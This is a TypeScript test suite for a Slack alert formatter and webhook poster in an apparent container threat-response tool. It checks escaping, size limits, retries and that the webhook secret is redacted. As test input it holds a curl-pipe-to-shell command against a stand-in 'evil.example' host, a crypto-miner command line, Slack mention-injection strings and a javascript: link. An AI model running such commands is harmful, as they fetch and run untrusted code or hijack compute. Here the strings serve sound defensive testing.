import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Logger } from '@aws-lambda-powertools/logger';
import type { SimulatedDeployment } from '../sim/deployment';
import type { SNSEvent } from 'aws-lambda';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Notification } from '../shared/notification';
import { createSlackNotifier } from '../shared/notify/slack-delivery';
import { clamp, renderSlackMessage, SLACK_LIMITS, type SlackMessage } from '../shared/notify/slack-message';
import { MAX_RETRY_AFTER_MS, postToSlack, SlackWebhookError } from '../shared/notify/slack-webhook';
import { startDeployment } from './helpers/deployment';
import { imageNotification, runtimeFindingNotification } from './fixtures/notifications';

// ---------------------------------------------------------------------------------------------------------------------
// A scripted Slack webhook on 127.0.0.1

interface Reply {
  status: number;
  body?: string;
  headers?: Record<string, string>;
  /** Never answer (to test timeouts). */
  hang?: boolean;
}

interface FakeSlack {
  /** The full webhook URL, including the secret path. */
  url: string;
  secretPath: string;
  requests: { path: string; headers: IncomingHttpHeaders; body: string }[];
  close: () => Promise<void>;
}

const servers: Server[] = [];
afterEach(async () => {
  vi.restoreAllMocks();
  // closeAllConnections: a hung or keep-alive connection would otherwise hold close() for seconds.
  await Promise.all(
    servers.splice(0).map((s) => {
      s.closeAllConnections();
      return new Promise<void>((resolve) => s.close(() => resolve()));
    }),
  );
});

async function fakeSlack(script: Reply[] = []): Promise<FakeSlack> {
  const requests: FakeSlack['requests'] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      requests.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      const reply = script.shift() ?? { status: 200, body: 'ok' };
      if (reply.hang) return;
      res.writeHead(reply.status, { 'content-type': 'text/plain', ...reply.headers });
      res.end(reply.body ?? '');
    });
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const secretPath = '/services/T0SECRET1/B0SECRET2/xoxSeCrEtToKeN1234567890';
  return {
    url: `http://127.0.0.1:${port}${secretPath}`,
    secretPath,
    requests,
    close: () => {
      server.closeAllConnections();
      return new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

function recordingSleep() {
  const waits: number[] = [];
  return {
    waits,
    sleep: (ms: number) => {
      waits.push(ms);
      return Promise.resolve();
    },
  };
}

// ---------------------------------------------------------------------------------------------------------------------
// Helpers over the rendered blocks

type TextObject = { type: string; text: string; verbatim?: boolean };
type AnyBlock = { type: string; text?: TextObject; fields?: TextObject[]; elements?: TextObject[] };

function blocksOf(message: SlackMessage): AnyBlock[] {
  return message.blocks as AnyBlock[];
}

/** Every text object in the message, in order. */
function textObjects(message: SlackMessage): TextObject[] {
  return blocksOf(message).flatMap((b) => [...(b.text ? [b.text] : []), ...(b.fields ?? []), ...(b.elements ?? [])]);
}

function allText(message: SlackMessage): string {
  return [message.text, ...textObjects(message).map((t) => t.text)].join('\n');
}

function sectionTexts(message: SlackMessage): string[] {
  return blocksOf(message)
    .filter((b) => b.type === 'section')
    .map((b) => b.text?.text ?? '');
}

function expectWithinLimits(message: SlackMessage) {
  const blocks = blocksOf(message);
  expect(blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
  for (const b of blocks) {
    if (b.type === 'header') expect(b.text?.text.length).toBeLessThanOrEqual(SLACK_LIMITS.headerText);
    if (b.type === 'section') expect(b.text?.text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
    expect(b.fields?.length ?? 0).toBeLessThanOrEqual(SLACK_LIMITS.fields);
    for (const f of b.fields ?? []) expect(f.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fieldText);
    expect(b.elements?.length ?? 0).toBeLessThanOrEqual(SLACK_LIMITS.contextElements);
    for (const e of b.elements ?? []) expect(e.text.length).toBeLessThanOrEqual(SLACK_LIMITS.contextText);
  }
  // No half-cut entity: every & starts &amp; &lt; or &gt;.
  expect(allText(message)).not.toMatch(/&(?!(amp|lt|gt);)/);
}

// ---------------------------------------------------------------------------------------------------------------------

describe('renderSlackMessage', () => {
  it('renders a runtime finding with every field, and posts exactly that payload', async () => {
    const n = runtimeFindingNotification();
    const message = renderSlackMessage(n);
    const text = allText(message);
    const blocks = blocksOf(message);

    expect(message.text).toBe(n.headline);
    expect(blocks[0]).toEqual({ type: 'header', text: { type: 'plain_text', text: n.headline, emoji: true } });
    for (const expected of [
      n.finding!.title,
      '`CryptoCurrency:Runtime/BitcoinTool.B!DNS`',
      'HIGH (8)',
      '`111122223333` / `eu-west-1`',
      '`payments`',
      '`api`',
      `\`${n.resource.taskArn}\``,
      'FARGATE',
      `\`${n.resource.images[0]}\``,
      '`runtime-high-contain`',
      '*ENFORCE*',
      ':lock: *contained* via `security-group`',
      'Occurrences',
      // actions: status, emoji, mechanism, detail, error code
      ':white_check_mark: *applied* `isolate-task` — via `network-acl`',
      'Denied all traffic to and from the task ENI subnet entry.',
      ':fast_forward: *skipped* `snapshot-evidence`',
      ':memo: *planned* `stop-task` — via `stop-task`',
      ':x: *failed* `tag-image`',
      '(`AccessDeniedException`)',
      ':information_source: *unsupported* `isolate-ec2-host`',
      // indicators
      'attacker-controlled',
      '*Process:* `xmrig`',
      '*Executable:* `/tmp/.x/xmrig`',
      '```/tmp/.x/xmrig -o pool.supportxmr.com:443 --donate-level 1```',
      '*Domains:* `pool.supportxmr.com`',
      '*Remote IPs:* `203.0.113.42`',
      // links, notes, ledger, release, requester
      '<https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?fId=8ec9f2a6c1b04a0c9d2f6a1b3c4d5e6f|GuardDuty finding>',
      '|ECS task>',
      'The task stays running so its memory can be captured.',
      '`led-01JPA7Q2W3E4R5T6Y7U8I9O0P1`',
      `*To release:* \`${n.releaseCommand}\``,
      'Requested by `guardduty-event`',
      'Reason: policy runtime-high-contain',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('OBSERVE');
    // The indicators are in their own clearly labelled section.
    expect(sectionTexts(message).find((s) => s.includes('*Process:*'))).toMatch(/^:warning: \*Indicators: attacker-controlled values\.\*/);
    // Every mrkdwn object is verbatim, so Slack does not auto-link or parse mentions in it.
    for (const t of textObjects(message)) if (t.type === 'mrkdwn') expect(t.verbatim).toBe(true);
    expectWithinLimits(message);

    const slack = await fakeSlack();
    const result = await postToSlack(slack.url, message);
    expect(result).toEqual({ attempts: 1, status: 200 });
    expect(slack.requests).toHaveLength(1);
    expect(slack.requests[0]!.path).toBe(slack.secretPath);
    expect(slack.requests[0]!.headers['content-type']).toMatch(/^application\/json/);
    expect(JSON.parse(slack.requests[0]!.body)).toEqual(message);
  });

  it('renders an observe-mode image notification: repository, digest, tags, counts, CVEs, tasks', () => {
    const n = imageNotification();
    const message = renderSlackMessage(n);
    const text = allText(message);
    for (const expected of [
      '*Repository:* `payments-api`',
      '*Digest:* `sha256:4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945`',
      '*Tags:* `v1.4.2`, `latest`',
      '*Findings by severity:* CRITICAL 2 · HIGH 5 · MEDIUM 11',
      '• `CVE-2024-3094` · CRITICAL · in `xz-utils` · fixed in `5.6.1+really5.4.5-1` · :bomb: *exploit available* · EPSS 0.92',
      '• `CVE-2023-4863` · CRITICAL · in `libwebp` · _no fix yet_ · :bomb: *exploit available*',
      '• `CVE-2024-2961` · HIGH · in `glibc` · fixed in `2.36-9+deb12u7`',
      '`arn:aws:ecs:eu-west-1:111122223333:task/payments/aaaa1111`, `arn:aws:ecs:eu-west-1:111122223333:task/payments/bbbb2222`',
      'CRITICAL (10)',
      '`image-critical-quarantine`',
      '*Mode:* *OBSERVE* (no changes made)',
      ':eyes: *observed*',
      ':memo: *planned* `quarantine-image` — via `retag`',
      '`npm run runbook -- release-image --repository payments-api',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('CVE-2024-2961` · HIGH · in `glibc` · fixed in `2.36-9+deb12u7` · :bomb:');
    expect(text).not.toContain('LOW 0');
    // Observe mode is the second block, right under the headline.
    expect(blocksOf(message)[1]!.text!.text).toContain('*OBSERVE: nothing was changed.*');
    // No indicator section when there are no indicators.
    expect(text).not.toContain('attacker-controlled');
    expectWithinLimits(message);
  });

  it('flags observe mode in the fallback text when the headline does not, and shows sample findings and errors', () => {
    const base = runtimeFindingNotification();
    const message = renderSlackMessage({
      ...base,
      headline: 'Crypto miner in payments/api',
      decision: { policyRule: 'r', mode: 'observe' },
      finding: { ...base.finding!, sample: true },
      error: 'ecs:DescribeTasks timed out',
      reason: undefined,
    });
    expect(message.text).toBe('[OBSERVE] Crypto miner in payments/api');
    const text = allText(message);
    expect(text).toContain('SAMPLE finding');
    expect(text).toContain(':x: *Error*\n```ecs:DescribeTasks timed out```');
    expect(text).not.toContain('Reason:');
  });

  it('escapes attacker-controlled strings: no mentions, no links, no code-span breakout', () => {
    const hostile = '<!channel> <@U1> <https://evil.example|click> & @here @channel @everyone';
    const base = runtimeFindingNotification();
    const n: Notification = {
      ...base,
      headline: `CONTAINED: ${hostile}`,
      finding: { ...base.finding!, title: hostile, type: 'Exec`ution<!here>' },
      resource: { ...base.resource, cluster: '<!here>', images: ['evil`image'] },
      indicators: {
        process: '<!channel>',
        executablePath: '/tmp/`id`/<@U1>',
        commandLine: 'sh -c "curl https://evil.example/x.sh | sh" && echo `id` ``` *bold* <https://evil.example|click> @here',
        domains: ['<https://evil.example|click>', 'evil.example'],
        remoteIps: ['203.0.113.9'],
      },
      actions: [{ action: 'stop-task', status: 'failed', detail: 'AWS said <!channel> & more' }],
      notes: ['@here look'],
      reason: '<@U1>',
      links: [
        { label: 'ok <!channel> | label', url: 'https://console.aws.amazon.com/a?b=1&c=2|x>y' },
        { label: 'plain http', url: 'http://evil.example/' },
        { label: 'script', url: 'javascript:alert(1)' },
      ],
    };
    const message = renderSlackMessage(n);
    const text = allText(message);

    for (const forbidden of ['<!channel>', '<!here>', '<@U1>', '<https://evil.example', '@here', '@channel', '@everyone', '<http://']) {
      expect(text).not.toContain(forbidden);
    }
    expect(text).toContain('&lt;!channel&gt;');
    expect(text).toContain('&lt;@U1&gt;');
    expect(text).toContain('&lt;https://evil.example|click&gt;');
    expect(text).toContain('&amp;&amp;');
    expect(text).toContain('@\u200Bhere');
    expect(message.text).not.toContain('<');
    expect(blocksOf(message)[0]!.text!.text).toContain('&lt;!channel&gt;');

    // The only links are the https ones from n.links, with `|`, `&` and `>` made safe.
    const links = text.match(/<[^>]*>/g) ?? [];
    expect(links).toEqual(['<https://console.aws.amazon.com/a?b=1&amp;c=2%7Cx%3Ey|ok &lt;!channel&gt; ¦ label>']);
    expect(text).toContain('plain http (link omitted: not an https URL)');
    expect(text).toContain('script (link omitted: not an https URL)');

    // The command line stays inside one code block: no backtick between the fences.
    const command = sectionTexts(message).find((s) => s.startsWith('*Command line*'));
    expect(command).toMatch(/^\*Command line\* \(attacker-controlled\)\n```[^`]+```$/);
    // Inline code spans are balanced: every line has an even number of backticks outside fences.
    for (const s of sectionTexts(message).filter((t) => !t.includes('```'))) {
      for (const line of s.split('\n')) expect((line.match(/`/g) ?? []).length % 2).toBe(0);
    }
    expectWithinLimits(message);
  });

  it('truncates a 10,000-character command line and other long fields within Slack limits', () => {
    const base = runtimeFindingNotification();
    const message = renderSlackMessage({
      ...base,
      headline: 'H'.repeat(400),
      finding: { ...base.finding!, title: '&'.repeat(5000) },
      resource: { ...base.resource, taskArn: '<'.repeat(3000), images: Array.from({ length: 40 }, (_, i) => `repo/img-${i}:${'t'.repeat(200)}`) },
      indicators: {
        ...base.indicators,
        commandLine: '&<>'.repeat(3334),
        domains: Array.from({ length: 500 }, (_, i) => `d${i}.evil.example`),
        executablePath: `/${'x'.repeat(10_000)}`,
      },
    });
    expectWithinLimits(message);
    for (const s of sectionTexts(message)) expect(s.length).toBeLessThanOrEqual(3000);
    const command = sectionTexts(message).find((s) => s.startsWith('*Command line*'))!;
    expect(command).toMatch(/…```$/);
    expect(allText(message)).toContain('more)');
    expect(blocksOf(message)[0]!.text!.text).toHaveLength(150);
  });

  it('keeps at most 50 blocks with 100 actions and 100 long notes, dropping the lowest priority first', () => {
    const base = runtimeFindingNotification();
    const n: Notification = {
      ...base,
      actions: Array.from({ length: 100 }, (_, i) => ({
        action: `action-${i}`,
        status: 'applied' as const,
        mechanism: 'security-group',
        detail: `Detail ${i} `.repeat(90),
      })),
      notes: Array.from({ length: 100 }, (_, i) => `Note ${i} `.repeat(120)),
    };
    const message = renderSlackMessage(n);
    const blocks = blocksOf(message);
    expectWithinLimits(message);
    expect(blocks).toHaveLength(50);
    expect(blocks[0]!.type).toBe('header');
    const last = blocks.at(-1)!;
    expect(last.type).toBe('context');
    expect(last.elements![0]!.text).toMatch(/^_\d+ more blocks omitted/);
    const text = allText(message);
    // High-priority content survives: first actions, release command, ledger id, links, indicators.
    expect(text).toContain('`action-0`');
    expect(text).toContain('*To release:*');
    expect(text).toContain('Ledger id `led-01JPA7Q2W3E4R5T6Y7U8I9O0P1`');
    expect(text).toContain('|GuardDuty finding>');
    expect(text).toContain('*Process:* `xmrig`');
    // Notes are the first to go.
    expect(text).not.toContain('Note 99');

    // 100 short actions fit without dropping anything.
    const short = renderSlackMessage({ ...base, actions: n.actions.map((a) => ({ ...a, detail: 'ok' })) });
    expect(blocksOf(short).length).toBeLessThanOrEqual(50);
    expect(allText(short)).toContain('`action-99`');
    expect(allText(short)).not.toContain('omitted');
  });

  it('clamps without splitting entities or surrogate pairs', () => {
    expect(clamp('&amp;&amp;', 7)).toBe('&amp;…');
    expect(clamp('ab&lt;cd', 5)).toBe('ab…');
    expect(clamp('abcdef', 6)).toBe('abcdef');
    expect(clamp('a😀b', 3)).toBe('a…');
  });
});

describe('postToSlack', () => {
  it('waits for Retry-After on 429 and retries', async () => {
    const slack = await fakeSlack([{ status: 429, body: 'rate_limited', headers: { 'retry-after': '3' } }]);
    const { waits, sleep } = recordingSleep();
    const result = await postToSlack(slack.url, { text: 'hi' }, { sleep });
    expect(result).toEqual({ attempts: 2, status: 200 });
    expect(waits).toEqual([3000]);
    expect(slack.requests).toHaveLength(2);
  });

  it('caps a long Retry-After and defaults to 1 s when it is missing', async () => {
    const slack = await fakeSlack([
      { status: 429, headers: { 'retry-after': '3600' } },
      { status: 429 },
    ]);
    const { waits, sleep } = recordingSleep();
    await postToSlack(slack.url, { text: 'hi' }, { sleep });
    expect(waits).toEqual([MAX_RETRY_AFTER_MS, 1000]);
  });

  it('retries 5xx with growing, jittered backoff, then succeeds', async () => {
    const slack = await fakeSlack([{ status: 503, body: 'unavailable' }, { status: 500 }]);
    const { waits, sleep } = recordingSleep();
    const result = await postToSlack(slack.url, { text: 'hi' }, { sleep });
    expect(result).toEqual({ attempts: 3, status: 200 });
    expect(waits).toHaveLength(2);
    expect(waits[0]).toBeGreaterThanOrEqual(250);
    expect(waits[0]).toBeLessThanOrEqual(500);
    expect(waits[1]).toBeGreaterThanOrEqual(500);
    expect(waits[1]).toBeLessThanOrEqual(1000);
    // The jitter really varies with the random source.
    const low = recordingSleep();
    const high = recordingSleep();
    const again = await fakeSlack([{ status: 502 }, { status: 502 }, { status: 502 }]);
    await postToSlack(again.url, { text: 'x' }, { sleep: low.sleep, random: () => 0, maxAttempts: 2 }).catch(() => undefined);
    await postToSlack(again.url, { text: 'x' }, { sleep: high.sleep, random: () => 0.999, maxAttempts: 2 });
    expect(low.waits).toEqual([250]);
    expect(high.waits[0]).toBeGreaterThan(490);
  });

  it('does not retry 400 invalid_payload and surfaces Slack\'s error body', async () => {
    const slack = await fakeSlack([{ status: 400, body: 'invalid_payload' }]);
    const { waits, sleep } = recordingSleep();
    const err = await postToSlack(slack.url, { text: 'hi' }, { sleep }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SlackWebhookError);
    const e = err as SlackWebhookError;
    expect(e.message).toContain('invalid_payload');
    expect(e).toMatchObject({ status: 400, body: 'invalid_payload', attempts: 1, retryable: false });
    expect(waits).toEqual([]);
    expect(slack.requests).toHaveLength(1);
    expectNoSecret(e, slack);
  });

  it('does not retry 404 channel_not_found either', async () => {
    const slack = await fakeSlack([{ status: 404, body: 'channel_not_found' }]);
    const err = await postToSlack(slack.url, { text: 'hi' }, { sleep: async () => {} }).catch((e: unknown) => e);
    expect(err).toMatchObject({ status: 404, body: 'channel_not_found', attempts: 1 });
    expect(slack.requests).toHaveLength(1);
  });

  it('throws after exhausting retries on 5xx, without the webhook URL in the error', async () => {
    const slack = await fakeSlack(Array.from({ length: 4 }, () => ({ status: 500, body: `oops ${'x'} ` })));
    const { waits, sleep } = recordingSleep();
    const err = await postToSlack(slack.url, { text: 'hi' }, { sleep }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SlackWebhookError);
    expect(err).toMatchObject({ status: 500, attempts: 4, retryable: true });
    expect((err as Error).message).toBe('Slack webhook failed after 4 attempts: HTTP 500 oops x');
    expect(waits).toHaveLength(3);
    expect(slack.requests).toHaveLength(4);
    expectNoSecret(err, slack);
  });

  it('redacts the URL if a response body echoes it', async () => {
    const script: Reply[] = [{ status: 400 }];
    const echoing = await fakeSlack(script);
    // The body names the server's own URL, which is known only once it listens.
    script[0]!.body = `bad hook ${echoing.url} and ${echoing.secretPath}`;
    const err = await postToSlack(echoing.url, { text: 'hi' }).catch((e: unknown) => e);
    expect((err as Error).message).toContain('[webhook-url]');
    expectNoSecret(err, echoing);
  });

  it('retries network errors and timeouts, and names them without the URL', async () => {
    const slack = await fakeSlack();
    await slack.close(); // nothing listens on that port any more
    const { waits, sleep } = recordingSleep();
    const refused = await postToSlack(slack.url, { text: 'hi' }, { sleep, maxAttempts: 3 }).catch((e: unknown) => e);
    expect((refused as Error).message).toBe('Slack webhook failed after 3 attempts: network error ECONNREFUSED');
    expect(waits).toHaveLength(2);
    expectNoSecret(refused, slack);

    const hanging = await fakeSlack([{ status: 0, hang: true }]);
    const recovered = await postToSlack(hanging.url, { text: 'hi' }, { sleep: async () => {}, timeoutMs: 100 });
    expect(recovered).toEqual({ attempts: 2, status: 200 });
    const slow = await fakeSlack([{ status: 0, hang: true }, { status: 0, hang: true }]);
    const timedOut = await postToSlack(slow.url, { text: 'hi' }, { sleep: async () => {}, timeoutMs: 100, maxAttempts: 2 }).catch((e: unknown) => e);
    expect((timedOut as Error).message).toBe('Slack webhook failed after 2 attempts: timed out');
    expectNoSecret(timedOut, slow);
  });

  it('refuses non-https webhook URLs without echoing them', async () => {
    const err = await postToSlack('http://hooks.slack.example/services/T/B/SECRET', { text: 'x' }).catch((e: unknown) => e);
    expect((err as Error).message).toBe('Slack webhook URL must use https');
    const bad = await postToSlack('not a url SECRET', { text: 'x' }).catch((e: unknown) => e);
    expect((bad as Error).message).not.toContain('SECRET');
  });
});

function expectNoSecret(err: unknown, slack: FakeSlack) {
  const e = err as Error;
  const everything = [e.message, String(e), e.stack ?? '', JSON.stringify(e), JSON.stringify(e.cause ?? null)].join('\n');
  expect(everything).not.toContain(slack.url);
  expect(everything).not.toContain(slack.secretPath);
  expect(everything).not.toContain('xoxSeCrEtToKeN');
}

// ---------------------------------------------------------------------------------------------------------------------
// The SNS handler

/** The stage's webhook secret name (serverless.yml slackWebhookSecretName): the notifier's role may read only it. */
const SLACK_SECRET = 'ecs-threat-responder/simulated/slack-webhook';
const deployments: SimulatedDeployment[] = [];
afterEach(async () => {
  for (const deployment of deployments.splice(0)) await deployment.close();
});

/**
 * The webhook secret in a simulated deployment, read as the slackNotifier function's role; `calls` are the account's
 * GetSecretValue calls (what the cache test needs).
 */
async function secretsClient(secretString: () => string) {
  const deployment = await startDeployment();
  deployments.push(deployment);
  const { account } = deployment;
  account.putSecret(SLACK_SECRET, secretString());
  return { client: account.clients({ principal: 'slackNotifier' }).secrets, secretCalls: () => account.callsTo('secrets', 'GetSecretValue').map((c) => c.input) };
}

function snsEvent(...messages: string[]): SNSEvent {
  return {
    Records: messages.map((Message, i) => ({
      EventSource: 'aws:sns',
      EventVersion: '1.0',
      EventSubscriptionArn: 'arn:aws:sns:eu-west-1:111122223333:ecs-threat-responder-notifications:sub',
      Sns: {
        Type: 'Notification',
        MessageId: `msg-${i}`,
        TopicArn: 'arn:aws:sns:eu-west-1:111122223333:ecs-threat-responder-notifications',
        Subject: 'ecs-threat-responder',
        Message,
        Timestamp: '2025-03-14T09:27:00.000Z',
        SignatureVersion: '1',
        Signature: 'sig',
        SigningCertUrl: 'https://sns.eu-west-1.amazonaws.com/cert.pem',
        UnsubscribeUrl: 'https://sns.eu-west-1.amazonaws.com/unsubscribe',
        MessageAttributes: {},
      },
    })),
  };
}

/** Captures everything the Powertools logger writes (it writes to process.stdout/stderr directly). */
function captureLogs() {
  const lines: string[] = [];
  const capture = (chunk: unknown) => {
    lines.push(String(chunk));
    return true;
  };
  vi.spyOn(process.stdout, 'write').mockImplementation(capture);
  vi.spyOn(process.stderr, 'write').mockImplementation(capture);
  return lines;
}

const fastPost: typeof postToSlack = (url, message, options) => postToSlack(url, message, { ...options, sleep: async () => {} });

describe('createSlackNotifier', () => {
  it('posts each notification and fetches the secret once across invocations', async () => {
    const slack = await fakeSlack();
    const { client, secretCalls } = await secretsClient(() => slack.url);
    const logs = captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, logger: new Logger({ serviceName: 'ecs-threat-responder' }), post: fastPost });

    const runtime = runtimeFindingNotification();
    await notify(snsEvent(JSON.stringify(runtime)));
    await notify(snsEvent(JSON.stringify(imageNotification())));

    expect(secretCalls()).toEqual([{ SecretId: SLACK_SECRET }]);
    expect(slack.requests).toHaveLength(2);
    expect(JSON.parse(slack.requests[0]!.body)).toEqual(renderSlackMessage(runtime));
    expect(logs.join('')).toContain('Posted notification to Slack');
    expect(logs.join('')).not.toContain(slack.secretPath);
  });

  it('reads a JSON secret {"webhookUrl": ...}', async () => {
    const slack = await fakeSlack();
    const { client } = await secretsClient(() => JSON.stringify({ webhookUrl: slack.url }));
    captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, post: fastPost });
    await notify(snsEvent(JSON.stringify(runtimeFindingNotification())));
    expect(slack.requests).toHaveLength(1);
  });

  it('logs and skips invalid records, and still delivers the valid ones', async () => {
    const slack = await fakeSlack();
    const { client } = await secretsClient(() => slack.url);
    const logs = captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, post: fastPost });
    const { headline: _dropped, ...noHeadline } = runtimeFindingNotification();
    await notify(snsEvent('not json {', JSON.stringify({ ...noHeadline, version: 2 }), JSON.stringify(imageNotification())));

    expect(slack.requests).toHaveLength(1);
    const errors = logs.map((l) => JSON.parse(l) as { level: string; message: string; messageId?: string; problems?: { field: string }[] });
    const skipped = errors.filter((e) => e.message === 'Skipping SNS message that is not a valid notification');
    expect(skipped.map((e) => e.messageId)).toEqual(['msg-0', 'msg-1']);
    expect(skipped[0]!.problems).toEqual([{ field: '(message)', problem: 'not JSON' }]);
    expect(skipped[1]!.problems!.map((p) => p.field).sort()).toEqual(['headline', 'version']);
    expect(logs.join('')).not.toContain(slack.secretPath);
  });

  it('throws when delivery fails after retries, with no URL in the error or the logs', async () => {
    const slack = await fakeSlack(Array.from({ length: 4 }, () => ({ status: 503, body: 'service_unavailable' })));
    const { client } = await secretsClient(() => slack.url);
    const logs = captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, post: fastPost });
    const err = await notify(snsEvent(JSON.stringify(runtimeFindingNotification()))).catch((e: unknown) => e);
    expect((err as Error).message).toContain('Slack webhook failed after 4 attempts: HTTP 503 service_unavailable');
    expect(slack.requests).toHaveLength(4);
    expectNoSecret(err, slack);
    const logged = logs.join('');
    expect(logged).toContain('Slack delivery failed');
    expect(logged).not.toContain(slack.secretPath);
    expect(logged).not.toContain('xoxSeCrEtToKeN');
  });

  it('falls back to a text-only message when Slack refuses the blocks', async () => {
    const slack = await fakeSlack([{ status: 400, body: 'invalid_blocks' }]);
    const { client } = await secretsClient(() => slack.url);
    captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, post: fastPost });
    await notify(snsEvent(JSON.stringify(runtimeFindingNotification())));
    expect(slack.requests).toHaveLength(2);
    const fallback = JSON.parse(slack.requests[1]!.body) as { text: string; blocks?: unknown };
    expect(fallback.blocks).toBeUndefined();
    expect(fallback.text).toContain('CONTAINED: crypto miner');
    expect(fallback.text).toContain('invalid_blocks');
  });

  it('rejects a secret that is not a webhook URL without logging its value', async () => {
    const { client } = await secretsClient(() => '{"webhookUrl": 42, "token": "xoxSeCrEtToKeN"}');
    const logs = captureLogs();
    const notify = createSlackNotifier({ secrets: client, secretId: SLACK_SECRET, post: fastPost });
    const err = await notify(snsEvent(JSON.stringify(runtimeFindingNotification()))).catch((e: unknown) => e);
    expect((err as Error).message).toContain('does not hold a Slack webhook URL');
    expect((err as Error).message).not.toContain('xoxSeCrEtToKeN');
    expect(logs.join('')).not.toContain('xoxSeCrEtToKeN');
  });
});
